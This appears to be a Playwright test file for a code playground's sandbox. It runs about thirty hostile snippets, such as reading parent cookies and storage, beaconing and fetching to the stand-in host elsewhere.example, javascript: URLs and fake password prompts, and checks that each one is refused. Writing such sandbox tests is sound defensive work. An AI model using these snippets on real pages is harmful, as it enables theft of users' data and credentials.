// Code that means harm, as a link that someone made could hold it: each attempt fails, and the page, its
// storage and the next run are as they were.
import type { Page } from '@playwright/test'
import { expect, test } from '../reader'
import { Playground } from './playground'

/** A component that runs `body` once it is there, and prints what comes of it. */
const attempt = (body: string) => `import { useEffect } from 'react'
export default function Example() {
  useEffect(() => {
    const tell = (value: unknown) => console.log('outcome:', String(value))
    const run = async () => { ${body} }
    run().then(tell, tell)
  }, [])
  return <p>tried</p>
}`

const harmless = 'export default () => <p>harmless</p>'

async function secrets(page: Page) {
  return page.evaluate(() => [document.title, localStorage.getItem('secret'), document.cookie])
}

const outside = 'https://elsewhere.example/'

/** What is tried, and what a browser answers. */
const attempts: Record<string, [body: string, outcome: RegExp]> = {
  'the page’s document': [`return parent.document.title`, /SecurityError/],
  'the page’s window': [`parent.secret = 1`, /SecurityError/],
  'the page’s storage': [`return localStorage.getItem('secret')`, /SecurityError/],
  'the tab’s storage': [`return sessionStorage.length`, /SecurityError/],
  cookies: [`return document.cookie`, /SecurityError/],
  'a database': [`return indexedDB.open('a').constructor.name`, /SecurityError/],
  caches: [`return await caches.keys()`, /SecurityError/],
  'a service worker': [`return await navigator.serviceWorker.register('/a.js')`, /Error/],
  'the page’s address': [`top.location.href = '${outside}'`, /SecurityError/],
  'another window': [`return window.open('${outside}')`, /outcome: null/],
  'a request': [`return await fetch('${outside}?a')`, /TypeError: Failed to fetch/],
  'a request to the site': [`return await fetch('/api/health')`, /TypeError: Failed to fetch/],
  'an old request': [
    `return new Promise((resolve) => { const r = new XMLHttpRequest(); r.onerror = () => resolve('refused'); r.open('GET', '${outside}'); r.send() })`,
    /refused/,
  ],
  'a beacon': [`navigator.sendBeacon('${outside}', 'a'); return 'sent nothing'`, /sent nothing/],
  'a socket': [
    `return new Promise((resolve) => { new WebSocket('wss://elsewhere.example/').onerror = () => resolve('refused') })`,
    /refused|SecurityError/,
  ],
  'an event source': [
    `return new Promise((resolve) => { new EventSource('${outside}').onerror = () => resolve('refused') })`,
    /refused|SecurityError/,
  ],
  'a module of another site': [
    `const at = '${outside}a.js'; return await import(at)`,
    /TypeError: Failed to fetch/,
  ],
  'a script element': [
    `return new Promise((resolve) => { const s = document.createElement('script'); s.src = '/_astro/a.js'; s.onerror = () => resolve('refused'); document.head.append(s) })`,
    /refused/,
  ],
  'a picture of another site': [
    `return new Promise((resolve) => { const i = new Image(); i.onerror = () => resolve('refused'); i.src = '${outside}?a' })`,
    /refused/,
  ],
  'code in a string': [`return new Function('return 1')()`, /EvalError/],
  'a worker': [
    `return new Promise((resolve) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => resolve('it runs'); w.onerror = () => resolve('refused') })`,
    /refused|SecurityError/,
  ],
  'a frame in the frame': [
    `const f = document.createElement('iframe'); document.body.append(f); return f.contentDocument.title`,
    /TypeError/,
  ],
  'a peer connection': [`return new RTCPeerConnection()`, /TypeError/],
  'the code in an address': [
    `const a = document.createElement('a'); a.href = 'javascript:parent.secret=1'; a.click(); return 'clicked'`,
    /clicked/,
  ],
  'a dialog': [`return confirm('Your password?')`, /outcome: false/],
  'a prompt': [`return prompt('Your password?')`, /outcome: null/],
  'full screen': [`return await document.body.requestFullscreen()`, /TypeError/],
  'the clipboard': [`return await navigator.clipboard.readText()`, /NotAllowedError|TypeError/],
  'where the reader is': [
    `return new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('here'), (e) => resolve('refused ' + e.code)))`,
    /refused 1/,
  ],
}

for (const [what, [body, outcome]] of Object.entries(attempts)) {
  test(`a reader's code can't get at ${what}`, async ({ page, problems }) => {
    const playground = new Playground(page)
    await playground.open('react')
    await page.evaluate(() => localStorage.setItem('secret', 'kept'))
    const before = await secrets(page)
    const address = page.url()
    let opened = 0
    page.on('popup', () => opened++)
    page.on('dialog', () => opened++)
    await playground.run(attempt(body))
    await expect.poll(() => playground.printed()).toContainEqual(expect.stringMatching(outcome))
    expect(await secrets(page)).toEqual(before)
    expect(page.url()).toBe(address)
    expect(opened).toBe(0)
    expect(await page.evaluate(() => 'secret' in window)).toBe(false)
    await playground.run(harmless)
    await playground.rendered('<p>harmless</p>')
    playground.forgetRefusals(problems)
  })
}
